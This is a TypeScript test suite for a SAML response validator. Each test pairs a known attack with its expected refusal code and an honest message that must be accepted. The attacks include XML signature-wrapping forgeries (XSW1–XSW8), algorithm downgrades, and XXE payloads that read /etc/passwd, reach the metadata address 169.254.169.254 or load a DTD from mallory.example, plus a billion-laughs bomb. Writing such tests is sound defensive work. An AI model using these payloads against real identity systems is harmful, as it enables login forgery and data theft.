/**
 * Every attack that saml-security section 2 names, with the code that it must be refused with, and
 * beside it a twin: the nearest message that is honest and must be accepted. What needs a store
 * (replay, unknown and used requests, other browsers) is tested in test/flows/; what costs too much,
 * in cost.test.ts.
 */
import { generateKeyPairSync } from "node:crypto";
import { describe, test } from "node:test";
import { signatureOf } from "../../demo/sign-xml.ts";
import { createSigner, type RespondOptions } from "../../demo/signer.ts";
import type { ErrorCode } from "../../src/errors.ts";
import {
  acsUrl,
  assertAccepted,
  assertRefused,
  type Circumstances,
  cut,
  email,
  idp,
  nowMs,
  receiver,
  replaced,
  respond,
  responseOptions,
  signer,
  stranger,
} from "../fixtures/saml.ts";

type Message = string | Uint8Array;

interface Attack {
  /** The rule that holds, as a sentence. */
  readonly rule: string;
  readonly code: ErrorCode;
  readonly attack: () => Message;
  /** Under which the attack is tried. */
  readonly in?: Circumstances;
  /** The honest twin; by default the plain signed response. */
  readonly twin?: () => Message;
  /** Under which the twin is tried; by default those of the attack. */
  readonly twinIn?: Circumstances;
}

function check(attacks: readonly Attack[]): void {
  for (const { rule, code, attack, twin = respond, ...circumstances } of attacks) {
    const { in: around = {}, twinIn = around } = circumstances;
    test(`${rule} (${code})`, async () => {
      await assertRefused(code, attack(), around);
      await assertAccepted(twin(), twinIn);
    });
  }
}

/** The forged twin of a signed assertion: another person, another ID, no signature. */
function forge(assertion: string): string {
  const unsigned = assertion.replace(cut(assertion, "ds:Signature"), "");
  return replaced(replaced(unsigned, "_assertion1", "_forged"), email, "admin@acme.example");
}

const forged = (xml: string): string => forge(cut(xml, "saml:Assertion"));

/** `forge` of a response in which only the response is signed. */
const signedResponse = (): string => respond({ sign: "response" });

/** A response that repeats `xml`'s with another person and another ID, without signature. */
function forgedResponse(xml: string): string {
  const unsigned = xml.replace(cut(xml, "ds:Signature"), "");
  const renamed = unsigned.replace("_response1", "_forged").replaceAll("_assertion1", "_forged2");
  return replaced(renamed, email, "admin@acme.example");
}

const insertBefore = (xml: string, mark: string, what: string): string =>
  replaced(xml, mark, `${what}${mark}`);
const insertAfter = (xml: string, mark: string, what: string): string =>
  replaced(xml, mark, `${mark}${what}`);

const saml = 'xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"';
const assertionEnd = "</saml:Assertion>";
const responseEnd = "</samlp:Response>";
const statusStart = "<samlp:Status>";
const extensions = (content: string): string => `<samlp:Extensions>${content}</samlp:Extensions>`;

describe("Wrapping", () => {
  check([
    {
      rule: "A signed response inside the signature of a forged one is never read (XSW1)",
      code: "saml_assertion_count",
      attack: () => {
        const xml = signedResponse();
        const unsigned = xml.replace(cut(xml, "ds:Signature"), "");
        const signature = insertBefore(
          cut(xml, "ds:Signature"),
          "</ds:Signature>",
          `<ds:Object>${unsigned}</ds:Object>`,
        );
        return insertBefore(forgedResponse(xml), statusStart, signature);
      },
      twin: signedResponse,
    },
    {
      rule: "A signed response beside the signature of a forged one is never read (XSW2)",
      code: "saml_bad_structure",
      attack: () => {
        const xml = signedResponse();
        const unsigned = xml
          .replace(cut(xml, "ds:Signature"), "")
          .replace("_assertion1", "_assertion2");
        return insertBefore(forgedResponse(xml), statusStart, unsigned + cut(xml, "ds:Signature"));
      },
      twin: signedResponse,
    },
    {
      rule: "A forged assertion before the signed one is refused (XSW3)",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond();
        return insertBefore(xml, "<saml:Assertion", forged(xml));
      },
    },
    {
      rule: "The signed assertion inside a forged one is refused (XSW4)",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond();
        const original = cut(xml, "saml:Assertion");
        return replaced(xml, original, insertBefore(forge(original), assertionEnd, original));
      },
    },
    {
      rule: "A forged assertion that bears the signature of the real one beside it is refused (XSW5)",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond();
        const original = cut(xml, "saml:Assertion");
        const signature = cut(original, "ds:Signature");
        const thief = insertBefore(forge(original), "<saml:Subject>", signature);
        return replaced(xml, original, thief + original.replace(signature, ""));
      },
    },
    {
      rule: "A forged assertion whose signature holds the real one is refused (XSW6)",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond();
        const original = cut(xml, "saml:Assertion");
        const signature = cut(original, "ds:Signature");
        const holding = insertBefore(signature, "</ds:Signature>", original.replace(signature, ""));
        return replaced(xml, original, insertBefore(forge(original), "<saml:Subject>", holding));
      },
    },
    {
      rule: "A forged assertion in Extensions is refused (XSW7)",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond();
        return insertBefore(xml, statusStart, extensions(forged(xml)));
      },
      twin: () => insertBefore(respond(), statusStart, extensions("")),
    },
    {
      rule: "The real assertion in an Object of a forged one's signature is refused (XSW8)",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond();
        const original = cut(xml, "saml:Assertion");
        const signature = cut(original, "ds:Signature");
        const object = `<ds:Object>${original.replace(signature, "")}</ds:Object>`;
        const holding = insertBefore(signature, "</ds:Signature>", object);
        return replaced(xml, original, insertBefore(forge(original), "<saml:Subject>", holding));
      },
    },
    {
      rule: "A forged assertion in an Object of the real one's signature is refused",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond();
        return insertBefore(xml, "</ds:Signature>", `<ds:Object>${forged(xml)}</ds:Object>`);
      },
    },
    {
      rule: "A signature with an Object is refused even where it holds no assertion",
      code: "saml_signature_structure",
      attack: () => insertBefore(respond(), "</ds:Signature>", "<ds:Object></ds:Object>"),
    },
    {
      rule: "The real assertion moved into a signature's Object leaves the forged one unsigned",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond();
        const original = cut(xml, "saml:Assertion");
        const object = `<ds:Object>${original}</ds:Object>`;
        const signature = insertBefore(cut(original, "ds:Signature"), "</ds:Signature>", object);
        const thief = insertBefore(forge(original), "<saml:Subject>", signature);
        return replaced(xml, original, thief);
      },
    },
    {
      rule: "The real assertion moved into Extensions leaves the forged one beside it unsigned",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond();
        const original = cut(xml, "saml:Assertion");
        const swapped = replaced(xml, original, forge(original));
        return insertBefore(swapped, statusStart, extensions(original));
      },
    },
    {
      rule: "The real assertion moved into Advice leaves the forged one around it unsigned",
      code: "saml_signature_missing",
      attack: () => {
        const xml = respond();
        const original = cut(xml, "saml:Assertion");
        const advice = `<saml:Advice>${original}</saml:Advice>`;
        const thief = insertAfter(forge(original), "</saml:Conditions>", advice);
        return replaced(xml, original, thief);
      },
      twin: () =>
        respond({
          advice: `<saml:Assertion ${saml} ID="_advice" Version="2.0"></saml:Assertion>`.replace(
            ` ${saml}`,
            "",
          ),
        }),
    },
    {
      rule: "The real assertion in Advice of a forged one that bears its signature is refused",
      code: "saml_signature_structure",
      attack: () => {
        const xml = respond();
        const original = cut(xml, "saml:Assertion");
        const signature = cut(original, "ds:Signature");
        const advice = `<saml:Advice>${original.replace(signature, "")}</saml:Advice>`;
        const thief = insertAfter(forge(original), "</saml:Conditions>", advice);
        return replaced(xml, original, insertBefore(thief, "<saml:Subject>", signature));
      },
    },
    {
      rule: "The real assertion moved into StatusDetail leaves the forged one unsigned",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond();
        const original = cut(xml, "saml:Assertion");
        const swapped = replaced(xml, original, forge(original));
        const detail = `<samlp:StatusDetail>${original}</samlp:StatusDetail>`;
        return insertBefore(swapped, "</samlp:Status>", detail);
      },
      twin: () =>
        insertBefore(respond(), "</samlp:Status>", "<samlp:StatusDetail></samlp:StatusDetail>"),
    },
    {
      rule: "A forged assertion inside the Signature of a signed error response is refused",
      code: "saml_status_not_success",
      attack: () => {
        const status = { code: "urn:oasis:names:tc:SAML:2.0:status:Responder" };
        const xml = respond({ sign: "response", status });
        return insertBefore(xml, "</ds:Signature>", forged(respond()));
      },
      twin: signedResponse,
    },
    {
      rule: "A forged assertion in KeyInfo of a signed response without assertion is refused",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond({ sign: "response", withAssertion: false });
        return insertBefore(xml, "</ds:KeyInfo>", forged(respond()));
      },
      twin: signedResponse,
    },
    {
      rule: "Of two assertions, the signed one first, none is taken",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond();
        return insertBefore(xml, responseEnd, forged(xml));
      },
    },
    {
      rule: "Of two assertions, the signed one last, none is taken",
      code: "saml_assertion_count",
      attack: () => {
        const xml = respond();
        return insertBefore(xml, "<saml:Assertion", forged(xml));
      },
    },
    {
      rule: "An attacker's EncryptedAssertion beside the signed assertion is refused",
      code: "saml_assertion_count",
      attack: () => {
        const encryptFor = { certificatePem: receiver.certificatePem };
        const other = respond({ sign: "none", encryptFor, assertionId: "_forged" });
        return insertBefore(respond(), responseEnd, cut(other, "saml:EncryptedAssertion"));
      },
    },
    {
      rule: "A second root element is refused",
      code: "saml_bad_xml",
      attack: () => `${respond()}${respond()}`,
      twin: () => `${respond()}\n`,
    },
    {
      rule: "Text behind the root element is refused",
      code: "saml_bad_xml",
      attack: () => `${respond()}x`,
      twin: () => `${respond()}\n \t`,
    },
    {
      rule: "A LogoutResponse is no Response",
      code: "saml_not_a_response",
      attack: () => respond().replaceAll("samlp:Response", "samlp:LogoutResponse"),
    },
    {
      rule: "A bare Assertion is no Response",
      code: "saml_not_a_response",
      attack: () => cut(respond(), "saml:Assertion"),
    },
    {
      rule: "A Response of SAML 1.1 is none of SAML 2.0",
      code: "saml_not_a_response",
      attack: () =>
        replaced(
          respond(),
          "urn:oasis:names:tc:SAML:2.0:protocol",
          "urn:oasis:names:tc:SAML:1.1:protocol",
        ),
    },
    {
      rule: "A response without any assertion is refused",
      code: "saml_assertion_count",
      attack: () => respond({ withAssertion: false, sign: "response" }),
      twin: signedResponse,
    },
  ]);
});

/** The response with its one signature rewritten after signing. */
const editSignature = (editSignature: (xml: string) => string): string =>
  respond({ editSignature });
/** The response with SignedInfo rewritten before signing, so that the signature is genuine. */
const editSignedInfo = (editSignedInfo: (xml: string) => string): string =>
  respond({ editSignedInfo });

const transforms = (xml: string): string => cut(xml, "ds:Transforms");
const enveloped = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";
const exclusive = "http://www.w3.org/2001/10/xml-exc-c14n#";
const withTransform = (algorithm: string, content = ""): string =>
  editSignedInfo((xml) =>
    insertBefore(
      xml,
      "</ds:Transforms>",
      `<ds:Transform Algorithm="${algorithm}">${content}</ds:Transform>`,
    ),
  );
const inclusive = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
const inclusive11 = "http://www.w3.org/2006/12/xml-c14n11";
const withComments = (): string =>
  editSignedInfo((xml) => xml.replaceAll(exclusive, `${exclusive}WithComments`));
/** Signed by inclusive form, which is then called `name`. */
const inclusiveNamed = (name: string): string =>
  respond({
    canonicalization: "inclusive",
    editSignedInfo: (xml) => xml.replaceAll(inclusive, name),
  });
const entityFormat = "urn:oasis:names:tc:SAML:2.0:nameid-format:entity";
const context = (xml: string): string => cut(xml, "saml:AuthnContextClassRef");
const weakSigner = createSigner({
  entityId: signer.entityId,
  ssoUrl: signer.ssoUrl,
  keyType: "rsa1024",
});

describe("Signature tricks", () => {
  check([
    {
      rule: "A response without signature is refused",
      code: "saml_signature_missing",
      attack: () => respond({ sign: "none" }),
    },
    {
      rule: "A response whose signature was removed is refused",
      code: "saml_signature_missing",
      attack: () => {
        const xml = respond();
        return xml.replace(cut(xml, "ds:Signature"), "");
      },
    },
    {
      rule: "An empty SignatureValue is refused",
      code: "saml_signature_structure",
      attack: () => {
        const xml = respond();
        const value = cut(xml, "ds:SignatureValue");
        return replaced(xml, value, "<ds:SignatureValue></ds:SignatureValue>");
      },
    },
    {
      rule: "A SignatureValue of other bytes is refused",
      code: "saml_signature_invalid",
      attack: () => {
        const xml = respond();
        const value = cut(respond({ assertionId: "_other" }), "ds:SignatureValue");
        return replaced(xml, cut(xml, "ds:SignatureValue"), value);
      },
    },
    {
      rule: "Two SignedInfo are refused, the genuine one first",
      code: "saml_signature_structure",
      attack: () =>
        editSignature((xml) => insertAfter(xml, "</ds:SignedInfo>", cut(xml, "ds:SignedInfo"))),
    },
    {
      rule: "Two SignedInfo are refused, the genuine one last",
      code: "saml_signature_structure",
      attack: () =>
        editSignature((xml) =>
          insertBefore(
            xml,
            "<ds:SignedInfo>",
            cut(xml, "ds:SignedInfo").replace("#_assertion1", "#_forged"),
          ),
        ),
    },
    {
      rule: "A SignedInfo inside KeyInfo does not count",
      code: "saml_signature_structure",
      attack: () =>
        editSignature((xml) => {
          const genuine = cut(xml, "ds:SignedInfo");
          return insertBefore(xml.replace(genuine, ""), "</ds:KeyInfo>", genuine);
        }),
    },
    {
      rule: "Two References are refused",
      code: "saml_signature_structure",
      attack: () =>
        editSignedInfo((xml) => insertAfter(xml, "</ds:Reference>", cut(xml, "ds:Reference"))),
    },
    {
      rule: "A Reference with an empty URI is refused",
      code: "saml_signature_structure",
      attack: () => editSignedInfo((xml) => replaced(xml, 'URI="#_assertion1"', 'URI=""')),
    },
    {
      rule: "A Reference without URI is refused",
      code: "saml_signature_structure",
      attack: () => editSignedInfo((xml) => replaced(xml, ' URI="#_assertion1"', "")),
    },
    {
      rule: "A Reference to another element is refused",
      code: "saml_signature_structure",
      attack: () =>
        editSignedInfo((xml) => replaced(xml, 'URI="#_assertion1"', 'URI="#_response1"')),
    },
    {
      rule: "A Reference to another document is refused",
      code: "saml_signature_structure",
      attack: () =>
        editSignedInfo((xml) =>
          replaced(xml, 'URI="#_assertion1"', 'URI="https://mallory.example/#_assertion1"'),
        ),
    },
    {
      rule: "A Reference by XPointer is refused",
      code: "saml_signature_structure",
      attack: () =>
        editSignedInfo((xml) => replaced(xml, "#_assertion1", "#xpointer(id('_assertion1'))")),
    },
    {
      rule: "An ID that occurs twice is refused",
      code: "saml_bad_id",
      attack: () => respond({ responseId: "_same", assertionId: "_same" }),
    },
    {
      rule: "An ID that an attribute called Id repeats is refused",
      code: "saml_bad_id",
      attack: () => insertBefore(respond(), statusStart, extensions('<x Id="_assertion1"/>')),
      twin: () => insertBefore(respond(), statusStart, extensions('<x Id="_other"/>')),
    },
    {
      rule: "An assertion whose ID is called Id has none",
      code: "saml_bad_id",
      attack: () =>
        respond({
          editAssertion: (xml) => replaced(xml, ' ID="_assertion1"', ' Id="_assertion1"'),
        }),
    },
    {
      rule: "An assertion with ID and Id is refused",
      code: "saml_bad_id",
      attack: () => replaced(respond(), ' ID="_assertion1"', ' ID="_assertion1" Id="_forged"'),
    },
    {
      rule: "A prefixed ID beside the plain one is refused",
      code: "saml_bad_id",
      attack: () => replaced(respond(), ' ID="_response1"', ' ID="_response1" samlp:ID="_forged"'),
    },
    {
      rule: "xml:id is refused, since some software takes it for an ID",
      code: "saml_bad_id",
      attack: () => replaced(respond(), statusStart, '<samlp:Status xml:id="_assertion1">'),
    },
    {
      rule: "An ID that is no XML name is refused",
      code: "saml_bad_id",
      attack: () => respond({ assertionId: "1' or '1'='1" }),
    },
    {
      rule: "An XPath transform is refused",
      code: "saml_signature_algorithm",
      attack: () =>
        editSignedInfo((xml) =>
          replaced(
            xml,
            `Algorithm="${enveloped}"></ds:Transform>`,
            'Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(self::saml:Subject)</ds:XPath></ds:Transform>',
          ),
        ),
    },
    {
      rule: "An XSLT transform is refused",
      code: "saml_signature_algorithm",
      attack: () =>
        editSignedInfo((xml) =>
          replaced(xml, enveloped, "http://www.w3.org/TR/1999/REC-xslt-19991116"),
        ),
    },
    {
      rule: "A base64 transform is refused",
      code: "saml_signature_algorithm",
      attack: () =>
        editSignedInfo((xml) =>
          replaced(xml, enveloped, "http://www.w3.org/2000/09/xmldsig#base64"),
        ),
    },
    {
      rule: "A third transform is refused",
      code: "saml_signature_structure",
      attack: () => withTransform("http://www.w3.org/TR/1999/REC-xpath-19991116"),
    },
    {
      rule: "Five thousand transforms are refused",
      code: "saml_signature_structure",
      attack: () =>
        editSignedInfo((xml) =>
          replaced(
            xml,
            "</ds:Transforms>",
            `${`<ds:Transform Algorithm="${exclusive}"/>`.repeat(4000)}</ds:Transforms>`,
          ),
        ),
    },
    {
      rule: "Transforms in the other order are refused",
      code: "saml_signature_algorithm",
      attack: () =>
        editSignedInfo((xml) => {
          const swapped = transforms(xml).split(/(?=<ds:Transform )|(?=<\/ds:Transforms>)/);
          const [start = "", first = "", second = "", end = ""] = swapped;
          return replaced(xml, transforms(xml), start + second + first + end);
        }),
    },
    {
      rule: "A Reference without transforms is refused",
      code: "saml_signature_structure",
      attack: () => editSignedInfo((xml) => replaced(xml, transforms(xml), "")),
    },
    {
      rule: "HMAC with the public key as secret is refused",
      code: "saml_signature_algorithm",
      attack: () =>
        editSignedInfo((xml) =>
          replaced(
            xml,
            "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
            "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
          ),
        ),
    },
    {
      rule: "A response signed again, its certificate swapped in KeyInfo, is refused",
      code: "saml_signature_invalid",
      attack: () =>
        stranger.respond(responseOptions({ responseIssuer: idp.entityId, issuer: idp.entityId })),
    },
    {
      rule: "KeyInfo chooses no key: swapping its certificate alone changes nothing",
      code: "saml_signature_invalid",
      attack: () =>
        stranger.respond(
          responseOptions({
            responseIssuer: idp.entityId,
            issuer: idp.entityId,
            withKeyInfo: false,
          }),
        ),
      twin: () => {
        const xml = respond();
        const other = stranger.respond(responseOptions());
        return replaced(xml, cut(xml, "ds:KeyInfo"), cut(other, "ds:KeyInfo"));
      },
    },
    {
      rule: "SHA-1 is refused unless the organization's switch is on",
      code: "saml_sha1_refused",
      attack: () => respond({ algorithm: "rsa-sha1", digest: "sha1" }),
      twin: () => respond({ algorithm: "rsa-sha1", digest: "sha1" }),
      twinIn: { expected: { allowSha1: true } },
    },
    {
      rule: "A SHA-1 digest is refused even where the signature uses SHA-256",
      code: "saml_sha1_refused",
      attack: () => respond({ digest: "sha1" }),
    },
    {
      rule: "RSA-MD5 is refused",
      code: "saml_signature_algorithm",
      attack: () =>
        editSignedInfo((xml) =>
          replaced(
            xml,
            "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
            "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
          ),
        ),
      in: { expected: { allowSha1: true } },
    },
    {
      rule: "An MD5 digest is refused",
      code: "saml_signature_algorithm",
      attack: () =>
        editSignedInfo((xml) =>
          replaced(
            xml,
            "http://www.w3.org/2001/04/xmlenc#sha256",
            "http://www.w3.org/2001/04/xmldsig-more#md5",
          ),
        ),
      in: { expected: { allowSha1: true } },
    },
    {
      rule: "RSA of 1024 bits is refused though the metadata lists the key",
      code: "saml_key_too_weak",
      attack: () => weakSigner.respond(responseOptions()),
      in: { idp: { signingKeys: [{ key: weakSigner.publicKey, fingerprint: "weak" }] } },
      twinIn: {},
    },
    {
      rule: "A comment in DigestValue is refused",
      code: "saml_xml_forbidden",
      attack: () => replaced(respond(), "<ds:DigestValue>", "<ds:DigestValue><!---->"),
    },
    {
      rule: "A comment in SignatureValue is refused",
      code: "saml_xml_forbidden",
      attack: () => replaced(respond(), "<ds:SignatureValue>", "<ds:SignatureValue>A<!-- -->"),
    },
    {
      rule: "An element in DigestValue is refused",
      code: "saml_signature_structure",
      attack: () => replaced(respond(), "</ds:DigestValue>", "<x/></ds:DigestValue>"),
    },
    {
      rule: "A comment under c14n with comments is refused; without comments the octets are the same",
      code: "saml_xml_forbidden",
      attack: () => replaced(withComments(), email, `${email}<!-- -->.evil`),
      twin: () => withComments(),
    },
    {
      rule: "A comment under inclusive c14n with comments is refused likewise",
      code: "saml_xml_forbidden",
      attack: () => replaced(inclusiveNamed(`${inclusive}#WithComments`), email, `${email}<!---->`),
      twin: () => inclusiveNamed(`${inclusive}#WithComments`),
    },
    {
      rule: "Canonical XML 1.1 is refused where an xml: attribute is in scope",
      code: "saml_signature_algorithm",
      attack: () =>
        replaced(inclusiveNamed(inclusive11), "<samlp:Response ", '<samlp:Response xml:lang="en" '),
      twin: () => inclusiveNamed(inclusive11),
    },
    {
      rule: "A canonical form whose name only resembles a known one is refused",
      code: "saml_signature_algorithm",
      attack: () => editSignedInfo((xml) => xml.replaceAll(exclusive, `${exclusive}withcomments`)),
    },
    {
      rule: "A relative namespace, which makes some canonicalizers sign nothing, is refused",
      code: "saml_xml_forbidden",
      attack: () => replaced(respond(), "<samlp:Response ", '<samlp:Response xmlns:ns="1" '),
      twin: () => replaced(respond(), "<samlp:Response ", '<samlp:Response xmlns:ns="urn:1" '),
    },
    {
      rule: "An assertion changed after signing is refused",
      code: "saml_digest_mismatch",
      attack: () => replaced(respond(), email, "admin@acme.example"),
    },
    {
      rule: "A response changed after signing is refused",
      code: "saml_digest_mismatch",
      attack: () => replaced(signedResponse(), email, "admin@acme.example"),
      twin: signedResponse,
    },
    {
      rule: "White space put into a signed assertion is a change",
      code: "saml_digest_mismatch",
      attack: () => replaced(respond(), "<saml:Subject>", "\n<saml:Subject>"),
      twin: () => replaced(respond(), statusStart, `\n${statusStart}`),
    },
    {
      rule: "Where response and assertion are signed, the response must verify",
      code: "saml_digest_mismatch",
      attack: () => replaced(respond({ sign: "both" }), statusStart, `\n${statusStart}`),
      twin: () => respond({ sign: "both" }),
    },
    {
      rule: "Where response and assertion are signed, the assertion must verify",
      code: "saml_digest_mismatch",
      attack: () =>
        respond({
          sign: "both",
          editSignedAssertion: (xml) => replaced(xml, "LS-Managers", "LS-Admins"),
        }),
      twin: () => respond({ sign: "both" }),
    },
    {
      rule: "A signature that does not stand behind the Issuer is refused",
      code: "saml_bad_structure",
      attack: () => {
        const xml = respond();
        const signature = cut(xml, "ds:Signature");
        return insertBefore(xml.replace(signature, ""), assertionEnd, signature);
      },
    },
    {
      rule: "A second signature of the assertion is refused",
      code: "saml_bad_structure",
      attack: () => {
        const xml = respond();
        return insertAfter(xml, "</ds:Signature>", cut(xml, "ds:Signature"));
      },
    },
    {
      rule: "The assertion's signature does not sign the response around it",
      code: "saml_signature_structure",
      attack: () => {
        const xml = respond();
        const signature = cut(xml, "ds:Signature");
        return insertBefore(xml.replace(signature, ""), statusStart, signature);
      },
    },
    {
      rule: "A response of another organization's identity provider is refused",
      code: "saml_issuer_mismatch",
      attack: () => stranger.respond(responseOptions()),
      twin: () => stranger.respond(responseOptions()),
      twinIn: {
        idp: {
          entityId: stranger.entityId,
          signingKeys: [{ key: stranger.publicKey, fingerprint: "stranger" }],
        },
      },
    },
    {
      rule: "A key that the metadata no longer lists is refused",
      code: "saml_signature_invalid",
      attack: () => respond(),
      in: { idp: { signingKeys: [{ key: stranger.publicKey, fingerprint: "new" }] } },
      twinIn: {
        idp: { signingKeys: [{ key: stranger.publicKey, fingerprint: "new" }, ...idp.signingKeys] },
      },
    },
    {
      rule: "Metadata without any signing key trusts nobody",
      code: "saml_no_signing_key",
      attack: () => respond(),
      in: { idp: { signingKeys: [] } },
      twinIn: {},
    },
    {
      rule: "An RSA signature is no ECDSA signature",
      code: "saml_signature_invalid",
      attack: () =>
        editSignedInfo((xml) =>
          replaced(xml, "xmldsig-more#rsa-sha256", "xmldsig-more#ecdsa-sha256"),
        ),
    },
    {
      rule: "A key that is neither RSA nor elliptic fits no signature",
      code: "saml_signature_invalid",
      attack: () => respond(),
      in: {
        idp: {
          signingKeys: [{ key: generateKeyPairSync("ed25519").publicKey, fingerprint: "ed25519" }],
        },
      },
      twinIn: {},
    },
    {
      rule: "The assertion must be signed where the settings say so",
      code: "saml_assertion_signature_required",
      attack: signedResponse,
      in: { expected: { wantAssertionsSigned: true } },
    },
    {
      rule: "The response must be signed where the settings say so",
      code: "saml_response_signature_required",
      attack: () => respond(),
      in: { expected: { wantResponseSigned: true } },
      twin: signedResponse,
    },
    {
      rule: "A signature over a decoy in the Response's place does not cover the real assertion",
      code: "saml_digest_mismatch",
      attack: () => {
        const xml = respond({ sign: "response", email: "decoy@acme.example" });
        return replaced(
          replaced(xml, "decoy@acme.example", "admin@acme.example"),
          "LS-Managers",
          email,
        );
      },
      twin: signedResponse,
    },
  ]);
});

const inEmail = (what: string): string =>
  replaced(respond(), email, `admin@acme.example${what}.evil`);
const withDoctype = (doctype: string, xml = respond()): string => `${doctype}${xml}`;
const subset = (content: string, xml?: string): string =>
  withDoctype(`<!DOCTYPE samlp:Response [${content}]>`, xml);

/** `xml` with the bytes put in place of the mark `@@`. */
function withBytes(xml: string, bytes: readonly number[]): Uint8Array {
  const [before = "", after = ""] = xml.split("@@");
  return Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)]);
}

const marked = (): string => replaced(respond({ sign: "none" }), "LS-Managers", "@@");

describe("Text tricks", () => {
  check([
    {
      rule: "A comment in the e-mail address is refused, though canonical form would drop it",
      code: "saml_xml_forbidden",
      attack: () => inEmail("<!---->"),
    },
    {
      rule: "A comment in NameID is refused",
      code: "saml_xml_forbidden",
      attack: () => replaced(respond(), "alice-name-id", "admin<!-- x -->.evil"),
    },
    {
      rule: "A comment before the root element is refused",
      code: "saml_xml_forbidden",
      attack: () => `<!-- x -->${respond()}`,
    },
    {
      rule: "A processing instruction in the e-mail address is refused",
      code: "saml_xml_forbidden",
      attack: () => inEmail("<?x?>"),
    },
    {
      rule: "A processing instruction whose data would become text is refused",
      code: "saml_xml_forbidden",
      attack: () => inEmail("<?x admin@acme.example?>"),
    },
    {
      rule: "An XML declaration is only one at the start",
      code: "saml_xml_forbidden",
      attack: () => `\n<?xml version="1.0"?>${respond()}`,
      twin: () => `<?xml version="1.0" encoding="utf-8"?>\n${respond()}`,
    },
    {
      rule: "CDATA in the e-mail address is refused",
      code: "saml_xml_forbidden",
      attack: () => inEmail("<![CDATA[]]>"),
    },
    {
      rule: "An entity in the e-mail address is refused",
      code: "saml_xml_forbidden",
      attack: () => inEmail("&x;"),
      twin: () => replaced(respond(), "@acme", "&#64;acme"),
    },
    {
      rule: "An element in the e-mail address does not shorten it",
      code: "saml_digest_mismatch",
      attack: () => inEmail("<x/>"),
    },
    {
      rule: "DOCTYPE is refused",
      code: "saml_xml_forbidden",
      attack: () => withDoctype("<!DOCTYPE samlp:Response>"),
    },
    {
      rule: "DOCTYPE with an entity is refused",
      code: "saml_xml_forbidden",
      attack: () => subset('<!ENTITY x "admin">'),
    },
    {
      rule: "DOCTYPE that declares an ID attribute is refused",
      code: "saml_xml_forbidden",
      attack: () => subset("<!ATTLIST saml:Assertion Name ID #IMPLIED>"),
    },
    {
      rule: "An external entity of a file is refused",
      code: "saml_xml_forbidden",
      attack: () =>
        subset('<!ENTITY x SYSTEM "file:///etc/passwd">', replaced(respond(), email, "&x;")),
    },
    {
      rule: "An external entity over HTTP is refused",
      code: "saml_xml_forbidden",
      attack: () =>
        subset('<!ENTITY x SYSTEM "http://169.254.169.254/">', replaced(respond(), email, "&x;")),
    },
    {
      rule: "A parameter entity is refused",
      code: "saml_xml_forbidden",
      attack: () => subset('<!ENTITY % x SYSTEM "http://mallory.example/x.dtd"> %x;'),
    },
    {
      rule: "A billion laughs are refused",
      code: "saml_xml_forbidden",
      attack: () => {
        const level = (name: string, inner: string): string =>
          `<!ENTITY ${name} "${`&${inner};`.repeat(10)}">`;
        const names = "abcdefghij".split("");
        const levels = names.slice(1).map((name, at) => level(name, names[at] ?? ""));
        return subset(`<!ENTITY a "ha">${levels.join("")}`, replaced(respond(), email, "&j;"));
      },
    },
    {
      rule: "UTF-16 is refused",
      code: "saml_bad_encoding",
      attack: () => Buffer.from(`\uFEFF${respond()}`, "utf16le"),
    },
    {
      rule: "UTF-16 without byte order mark is refused",
      code: "saml_bad_xml",
      attack: () => Buffer.from(respond(), "utf16le"),
    },
    {
      rule: "UTF-7 is refused",
      code: "saml_bad_xml",
      attack: () => respond().replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
    },
    {
      rule: "A declared encoding other than UTF-8 is refused",
      code: "saml_bad_encoding",
      attack: () => `<?xml version="1.0" encoding="UTF-7"?>${respond()}`,
      twin: () => `<?xml version='1.0' encoding='UTF-8' standalone="yes" ?>${respond()}`,
    },
    {
      rule: "A byte order mark in the middle is text; in front it is no part of the document",
      code: "saml_bad_xml",
      attack: () => `\uFEFF\uFEFF${respond()}`,
      twin: () => `\uFEFF${respond()}`,
    },
    {
      rule: "Overlong UTF-8 is refused",
      code: "saml_bad_encoding",
      attack: () => withBytes(marked(), [0xc0, 0xbc]),
    },
    {
      rule: "A surrogate in UTF-8 is refused",
      code: "saml_bad_encoding",
      attack: () => withBytes(marked(), [0xed, 0xa0, 0x80]),
    },
    {
      rule: "A NUL byte is refused",
      code: "saml_bad_xml",
      attack: () => withBytes(marked(), [0]),
    },
    {
      rule: "A reference to NUL is refused",
      code: "saml_bad_xml",
      attack: () => replaced(respond(), "LS-Managers", "&#0;"),
    },
    {
      rule: "A reference to a lone surrogate is refused",
      code: "saml_bad_xml",
      attack: () => replaced(respond(), "LS-Managers", "&#xD800;&#xDC00;"),
      twin: () => respond({ groups: ["\u{1F600}"] }),
    },
    {
      rule: "A homograph of the e-mail address is another address",
      code: "saml_digest_mismatch",
      attack: () => replaced(respond(), email, "\u0430lice@acme.example"),
      twin: () => respond({ groups: ["\u0430lice@acme.example"] }),
    },
    {
      rule: "Line breaks put into the e-mail address are a change, however they are written",
      code: "saml_digest_mismatch",
      attack: () => replaced(respond(), email, `${email}&#13;&#10;x`),
      twin: () => respond({ groups: ["a\r\nb"] }),
    },
  ]);
});

const responder = "urn:oasis:names:tc:SAML:2.0:status:Responder";
const authnFailed = "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed";
const skewMs = 180_000;
const minuteMs = 60_000;
const other = `${acsUrl}x`;
const restriction = (audience: string): string =>
  `<saml:AudienceRestriction><saml:Audience>${audience}</saml:Audience></saml:AudienceRestriction>`;

/** Attack and twin are the same message but for one option. */
function option(
  rule: string,
